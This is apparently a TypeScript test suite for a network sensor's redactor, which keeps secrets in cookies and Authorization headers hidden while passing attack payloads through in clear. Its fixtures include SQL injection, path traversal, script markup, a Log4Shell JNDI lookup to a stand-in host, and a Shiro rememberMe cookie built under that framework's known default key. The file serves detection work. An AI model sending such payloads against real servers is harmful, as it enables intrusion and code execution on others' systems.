import { createCipheriv, createHmac } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { CookiePayloads, CredentialPayloads, Redactor } from '@/sensor/redact';
import { pcapFile, TcpConversation } from './helpers/pcap-writer';
import { runCommand } from './helpers/run';

const key = Buffer.from('test-redaction-key');
const expected = (value: string) => `redacted:k1:${createHmac('sha256', key).update(value).digest('hex').slice(0, 16)}:${Buffer.byteLength(value)}`;

/** One header as the redactor sends it (with the header's payload check when `payloads` is given), and how many values it kept in clear. */
function redactHeader(name: 'Cookie' | 'Authorization', value: string, payloads?: CookiePayloads | CredentialPayloads): { value: string; inClear: number } {
  const check = payloads && ((n: string, v: string) => payloads.isPayload(n, v));
  const redactor = new Redactor({ key, keyId: 'k1', ...(check ? (name === 'Cookie' ? { cookiePayload: check } : { credentialPayload: check }) : {}) });
  const headers = [{ name, value }];
  redactor.headers(headers);
  return { value: headers[0]!.value, inClear: name === 'Cookie' ? redactor.cookiePayloadsInClear : redactor.credentialPayloadsInClear };
}
const redactCookie = (value: string, payloads?: CookiePayloads) => redactHeader('Cookie', value, payloads);
const redactAuthorization = (value: string, payloads?: CredentialPayloads) => redactHeader('Authorization', value, payloads);

describe('cookie values that are attack payloads', () => {
  it.each([
    ['SQL injection', "1' OR '1'='1"],
    ['URL-encoded path traversal', '..%2F..%2F..%2Fetc%2Fpasswd'],
    ['script markup', '%3Cscript%3Ealert(1)%3C%2Fscript%3E'],
    ['a Log4Shell lookup', '${jndi:ldap://203.0.113.9/a}'],
    ['base64 of a traversal', Buffer.from('../../../../etc/passwd').toString('base64')],
  ])('%s is sent in clear, the session id and preferences beside it stay redacted', (_what, payload) => {
    const { value, inClear } = redactCookie(`sid=abc123def456; id=${payload}; theme=dark`, new CookiePayloads());
    expect(value).toBe(`sid=${expected('abc123def456')}; id=${payload}; theme=${expected('dark')}`);
    expect(inClear).toBe(1);
  });

  it("sends a Shiro rememberMe gadget under Shiro's default key in clear, and a real rememberMe cookie redacted", () => {
    const shiro = (className: string): string => {
      const name = Buffer.from(className);
      const stream = Buffer.concat([
        Buffer.from([0xac, 0xed, 0x00, 0x05, 0x73, 0x72, 0, name.length]),
        name,
        Buffer.from([1, 2, 3, 4, 5, 6, 7, 8, 2, 0, 0, 0x78, 0x70]),
      ]);
      const iv = Buffer.alloc(16, 3);
      const cipher = createCipheriv('aes-128-cbc', Buffer.from('kPH+bIxk5D2deZiIxcaaaA==', 'base64'), iv);
      return Buffer.concat([iv, cipher.update(stream), cipher.final()]).toString('base64');
    };
    const gadget = shiro('java.util.PriorityQueue');
    expect(redactCookie(`rememberMe=${gadget}`, new CookiePayloads()).value).toBe(`rememberMe=${gadget}`);
    const principals = shiro('org.apache.shiro.subject.SimplePrincipalCollection');
    expect(redactCookie(`rememberMe=${principals}`, new CookiePayloads()).value).toBe(`rememberMe=${expected(principals)}`);
  });

  it('redacts every value without the check (COOKIE_PAYLOADS=redacted)', () => {
    expect(redactCookie("sid=abc; id=1' OR '1'='1").value).toBe(`sid=${expected('abc')}; id=${expected("1' OR '1'='1")}`);
  });

  it.each([
    ['a session id', 'PHPSESSID', 'u8r9v2k1m3n4b5v6c7x8z9a0s1'],
    ['a JWT', 'auth', 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJlLXNpZ25hdHVyZQ'],
    ['an analytics id', '_ga', 'GA1.2.1234567890.1700000000'],
    ['a consent record', 'CookieConsent', '{stamp:%27Ab3+Xy%2Fz%3D%3D%27%2Cnecessary:true%2Cpreferences:false%2Cver:1}'],
    ['a URL-encoded JSON preference', 'prefs', '%7B%22lang%22%3A%22en%22%2C%22currency%22%3A%22EUR%22%7D'],
    ['a return path', 'return_to', '%2Faccount%2Forders%3Fpage%3D2'],
  ])('keeps %s redacted', (_what, name, value) => {
    expect(new CookiePayloads().isPayload(name, value)).toBe(false);
  });

  it('judges token-alphabet values (what session ids and API tokens are made of) as secrets', () => {
    const payloads = new CookiePayloads();
    fc.assert(
      fc.property(
        // `__proto__` is spelt in the token alphabet too, and is a payload (prototype pollution):
        // fast-check generates it on purpose now and then.
        fc
          .string({ unit: fc.constantFrom(...'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'.split('')), minLength: 8, maxLength: 200 })
          .filter((token) => token.indexOf('__proto__') < 0),
        (token) => {
          expect(payloads.isPayload('sid', token)).toBe(false);
        },
      ),
      { numRuns: 300 },
    );
  });
});

describe('Authorization values that are attack payloads', () => {
  const jwtHeader = Buffer.from(JSON.stringify({ alg: 'RS256', kid: 'key-2024', typ: 'JWT' })).toString('base64url');
  const jwt = `${jwtHeader}.${Buffer.from('{"sub":"42"}').toString('base64url')}.c2lnbmF0dXJl`;

  it.each([
    ['SQL in place of a bearer token', "Bearer ' OR 1=1--"],
    ['a Log4Shell lookup with no scheme', '${jndi:ldap://203.0.113.9/a}'],
    ['a UNION in place of a token', "Bearer x' UNION SELECT password FROM users--"],
  ])('%s is sent in clear', (_what, value) => {
    expect(redactAuthorization(value, new CredentialPayloads())).toEqual({ value, inClear: 1 });
  });

  it.each([
    ['a JWT (its header segment is kept: no secret)', `Bearer ${jwt}`, `Bearer ${jwtHeader}.${expected(jwt)}`],
    ['an opaque token', 'Bearer 3sd5ltupa3cq5t3ovm1r2kear6i4kvmeb', `Bearer ${expected('3sd5ltupa3cq5t3ovm1r2kear6i4kvmeb')}`],
    [
      'a Basic credential, whatever its base64 holds',
      `Basic ${Buffer.from("admin' OR '1'='1' --:hunter2").toString('base64')}`,
      `Basic ${expected(Buffer.from("admin' OR '1'='1' --:hunter2").toString('base64'))}`,
    ],
    [
      'Digest auth-params',
      'Digest username="alice", realm="api", nonce="abc", uri="/x", response="6629fae49393a05397450978507c4ef1"',
      `Digest ${expected('username="alice", realm="api", nonce="abc", uri="/x", response="6629fae49393a05397450978507c4ef1"')}`,
    ],
    [
      'several hash tokens',
      'SAPISIDHASH 1719748831_a6712c08 SAPISID1PHASH 1719748831_f6e74102',
      `SAPISIDHASH ${expected('1719748831_a6712c08 SAPISID1PHASH 1719748831_f6e74102')}`,
    ],
    // A real token can spell anything in the token68 alphabet: such values are never judged.
    ['a traversal spelled in the token alphabet', 'Bearer ../../../../etc/passwd', `Bearer ${expected('../../../../etc/passwd')}`],
    ['markup under Basic (a broken client may send the pair itself)', 'Basic <script>alert(1)</script>', `Basic ${expected('<script>alert(1)</script>')}`],
    ['a raw user:password pair with SQL in the password', "alice:x' OR '1'='1", expected("alice:x' OR '1'='1")],
    ['a key before a space (no scheme to keep)', 'ghp_secretKey123 x', expected('ghp_secretKey123 x')],
    // Without whitespace a value may be a password or key of any punctuation: never judged.
    ['markup with no space in it', 'Token <script>alert(1)</script>', `Token ${expected('<script>alert(1)</script>')}`],
    ['a punctuated password', 'Bearer S>t<mw]VQr?w~8PF"~O', `Bearer ${expected('S>t<mw]VQr?w~8PF"~O')}`],
    ['a URL-encoded base64 token', 'Bearer w%2B4Bi8V7XCz%2B%2Fdx9OqQvi2%2BX3PNq', `Bearer ${expected('w%2B4Bi8V7XCz%2B%2Fdx9OqQvi2%2BX3PNq')}`],
  ])('keeps %s redacted', (_what, value, sent) => {
    expect(redactAuthorization(value, new CredentialPayloads())).toEqual({ value: sent, inClear: 0 });
  });

  it('redacts every credential without the check (CREDENTIAL_PAYLOADS=redacted)', () => {
    expect(redactAuthorization("Bearer ' OR 1=1--")).toEqual({ value: `Bearer ${expected("' OR 1=1--")}`, inClear: 0 });
  });

  it('never sends a password in clear: base64 of user:password under any scheme or none, padding encoded or not, or the pair itself', () => {
    const payloads = new CredentialPayloads();
    const password = fc.string({ unit: fc.constantFrom(...`abcXYZ019'"<>;|&$()[]{}/\\%=-_.:!?#@*+ `.split('')), minLength: 1, maxLength: 24 });
    fc.assert(
      fc.property(fc.constantFrom('Basic ', 'basic ', 'Bearer ', 'Token ', ''), password, fc.boolean(), (scheme, secret, encodePadding) => {
        const base64 = Buffer.from(`alice:${secret}`).toString('base64');
        const sent = encodePadding ? base64.replace(/=/g, '%3D') : base64;
        expect(payloads.isPayload('Authorization', `${scheme}${sent}`)).toBe(false);
        if (!/\s/.test(secret)) expect(payloads.isPayload('Authorization', `${scheme}alice:${secret}`)).toBe(false);
      }),
      { numRuns: 500 },
    );
  });

  it('never sends a value without whitespace in clear, whatever punctuation it holds (but a lookup expression)', () => {
    const payloads = new CredentialPayloads();
    fc.assert(
      fc.property(
        fc.constantFrom('Bearer ', 'Token ', ''),
        fc.string({ unit: fc.integer({ min: 0x21, max: 0x7e }).map((c) => String.fromCharCode(c)), minLength: 1, maxLength: 40 }),
        (scheme, secret) => {
          fc.pre(!secret.startsWith('${'));
          expect(payloads.isPayload('Authorization', `${scheme}${secret}`)).toBe(false);
        },
      ),
      { numRuns: 2000 },
    );
  });

  it('judges token68 credentials (what bearer tokens are made of) as secrets', () => {
    const payloads = new CredentialPayloads();
    fc.assert(
      fc.property(
        fc.constantFrom('Bearer', 'Token', 'Basic', 'ApiKey'),
        fc.string({ unit: fc.constantFrom(...'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~+/'.split('')), minLength: 8, maxLength: 200 }),
        (scheme, token) => {
          expect(payloads.isPayload('Authorization', `${scheme} ${token}`)).toBe(false);
        },
      ),
      { numRuns: 300 },
    );
  });
});

describe('the sensor sends an attack cookie and credential in clear, end to end (--output stdout)', () => {
  let dir: string;
  let pcap: string;
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'sensor-cookie-'));
    const conversation = new TcpConversation({ clientIp: '192.0.2.10', serverIp: '198.51.100.5', clientPort: 51000 }).handshake();
    conversation
      .send(
        'client',
        "GET /account HTTP/1.1\r\nHost: shop.example.com\r\nCookie: sid=abc123def456; id=1' UNION SELECT password FROM users--\r\nAuthorization: Bearer ${jndi:ldap://203.0.113.9/a}\r\n\r\n",
      )
      .send('server', 'HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 2\r\n\r\nok')
      .close();
    pcap = join(dir, 'cookie.pcap');
    writeFileSync(pcap, pcapFile('ethernet', conversation.frames));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  const headersSent = async (extra: string[]): Promise<{ cookie: string; authorization: string }> => {
    const cli = join(__dirname, '../../bin/tx-prevent-sensor.js');
    const result = await runCommand(
      process.execPath,
      [cli, '--pcap', pcap, '--output', 'stdout', '--status-port', '0', '--redaction-key', 'k', '--sensor-id', 'cookie-test', ...extra],
      { PATH: process.env.PATH, HOME: process.env.HOME },
    );
    expect(result.code).toBe(0);
    const exchange = JSON.parse(result.stdout.trim()) as { request: { headers: Array<{ name: string; value: string }> } };
    const header = (name: string) => exchange.request.headers.find((h) => h.name === name)!.value;
    return { cookie: header('Cookie'), authorization: header('Authorization') };
  };

  it('by default, with the session id redacted; an Authorization payload likewise', async () => {
    const { cookie, authorization } = await headersSent([]);
    expect(cookie).toMatch(/^sid=redacted:[0-9a-f]{8}:[0-9a-f]{16}:12; id=1' UNION SELECT password FROM users--$/);
    expect(authorization).toBe('Bearer ${jndi:ldap://203.0.113.9/a}');
  });

  it('not with --cookie-payloads redacted or --credential-payloads redacted', async () => {
    const { cookie, authorization } = await headersSent(['--cookie-payloads', 'redacted', '--credential-payloads', 'redacted']);
    expect(cookie).toMatch(/^sid=redacted:[0-9a-f]{8}:[0-9a-f]{16}:12; id=redacted:[0-9a-f]{8}:[0-9a-f]{16}:37$/);
    expect(authorization).toMatch(/^Bearer redacted:[0-9a-f]{8}:[0-9a-f]{16}:28$/);
  });
});

describe('the verdict memory', () => {
  it('judges a value too long to remember on every call, as it judges a short one', () => {
    const payloads = new CookiePayloads();
    const long = `${'x'.repeat(2000)}' UNION SELECT password FROM users--`;
    expect(payloads.isPayload('id', long)).toBe(true);
    expect(payloads.isPayload('id', long)).toBe(true);
    expect(payloads.isPayload('pad', 'lorem ipsum '.repeat(250))).toBe(false);
  });
});
